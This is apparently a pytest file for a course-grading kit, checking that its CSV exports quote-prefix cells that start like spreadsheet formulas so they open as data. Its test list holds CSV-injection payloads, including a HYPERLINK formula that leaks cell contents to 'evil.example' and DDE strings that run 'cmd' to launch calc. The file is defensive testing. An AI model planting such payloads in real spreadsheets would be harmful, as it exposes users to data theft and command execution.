"""Every CSV the kit writes opens in a spreadsheet as data: a student id, a note, a check message or an LMS name
that starts like a formula (`=HYPERLINK(...)`, `+`, `-`, `@`, a tab, a carriage return) is written with a quote in
front (OWASP's advice against CSV injection), while numbers, negative ones included, stay numbers; and
scores.read_report reads back exactly what grading.write_report was given."""

import csv

import pytest

from coursekit import export, layout, report, results as scores, spreadsheet
from test_report import graded_cell, write_notebook
from assignments import PW2

FORMULAS = ['=HYPERLINK("https://evil.example/?leak="&A1,"click me")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "'=already quoted"]
NUMBERS = ["-3", "-2.5", "+4", "1e-3", "-", "0", "12"]


def cells(path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as f:
        return list(csv.reader(f))


def assert_neutralised(path, hostile: list[str]) -> None:
    """Every hostile text is in the file, each with a quote in front; no cell starts like a formula."""
    found = [cell for row in cells(path) for cell in row]
    for text in hostile:
        assert "'" + text in found, (path.name, text)
    assert not [c for c in found if c.startswith(spreadsheet.FORMULA_START) and not spreadsheet.NUMBER.fullmatch(c)]


@pytest.mark.parametrize("text", FORMULAS)
def test_text_that_starts_like_a_formula_gets_a_quote_and_comes_back(text):
    assert spreadsheet.neutralise(text) == "'" + text
    assert spreadsheet.restore(spreadsheet.neutralise(text)) == text


@pytest.mark.parametrize("number", NUMBERS)
def test_numbers_and_the_dash_placeholder_stay_as_they_are(number):
    assert spreadsheet.neutralise(number) == number == spreadsheet.restore(number)
    assert spreadsheet.neutralise(-3.0) == -3.0 and spreadsheet.neutralise(None) is None


@pytest.fixture
def course(tmp_path) -> layout.Course:
    course = layout.Course(tmp_path)
    write_notebook(course.source_notebook(PW2), [graded_cell("test_alpha", 5), graded_cell("test_beta", 5)])
    return course


def hostile_results() -> list[scores.Result]:
    return [scores.Result(FORMULAS[0], "graded", 2, 10, {"alpha": -3, "beta": 5}, FORMULAS[1]),
            scores.Result(FORMULAS[3], "not graded", 0, 10, {}, FORMULAS[4]),
            scores.Result("ada", "failed", 0, 10, {}, FORMULAS[6])]


def test_the_grading_report_is_neutralised_and_reads_back_as_written(course):
    results = hostile_results()
    path = scores.write_report(course, PW2, results)
    assert_neutralised(path, [FORMULAS[i] for i in (0, 1, 3, 4, 6)])
    assert cells(path)[1][5] == "-3", "a negative score stays a number"
    assert scores.read_report(path) == results


def test_grades_csv_and_the_moodle_worksheet_are_neutralised(course, tmp_path):
    found = [export.Row(FORMULAS[0], first_name=FORMULAS[2], last_name=FORMULAS[3], lms_id="1001", by_assignment={
                 PW2.name: scores.Result(FORMULAS[0], "graded", 2.0, 10.0, {"alpha": -3.0, "beta": 5.0})}),
             export.Row("bob", lms_id="1002", by_assignment={PW2.name: scores.Result("bob", FORMULAS[1], max_score=10.0)})]
    grades = export.write_grades(course, [PW2], found)
    assert_neutralised(grades, FORMULAS[:4])
    assert cells(grades)[1][5:] == ["-3", "5", "0", "2", "10"]
    worksheet = tmp_path / "Grades-PW2.csv"
    with worksheet.open("w", newline="", encoding="utf-8") as f:
        writer = csv.writer(f)  # as Moodle writes it: the names are whatever the students set in their profile
        writer.writerow(["Identifier", "Full name", "Email address", "Grade", "Feedback comments", "Last modified"])
        writer.writerow(["Participant 1001", FORMULAS[0], FORMULAS[3], "", "", "-"])
        writer.writerow(["Participant 1002", FORMULAS[5], "bob@example.org", "", "", "-"])
    path, _ = export.fill_moodle_worksheet(course, PW2, found, worksheet)
    assert_neutralised(path, [FORMULAS[0], FORMULAS[3], FORMULAS[5]])
    rows = cells(path)
    assert rows[1][3] == "2" and rows[1][5] == "-" and rows[1][4] == "alpha: -3; beta: 5"


def test_the_class_report_csvs_are_neutralised(course):
    student, check, reason, note = FORMULAS[3], FORMULAS[0], FORMULAS[1], FORMULAS[4]
    for name in ("ada", student):
        write_notebook(layout.submission_dir(course.autograded, name, PW2) / PW2.notebook,
                       [graded_cell("test_alpha", 5, f"  ✗ {check} [0/5]: {reason}\n"),
                        graded_cell("test_beta", 5, "  ✓ fine [5/5]\n")])
    found = [scores.Result("ada", "graded", 5, 10, {"alpha": 0, "beta": 5}, note),
             scores.Result(student, "graded", 5, 10, {"alpha": 0, "beta": 5})]
    paths = {p.name: p for p in report.write(course, PW2, found)}
    assert_neutralised(paths["check_pass_rates.csv"], [check])
    assert_neutralised(paths["failure_messages.csv"], [check, reason])
    assert_neutralised(paths["needs_a_look.csv"], [note])
    assert [row[2:4] for row in cells(paths["failure_messages.csv"])[1:]] == [["2", f"ada; {student}"]]
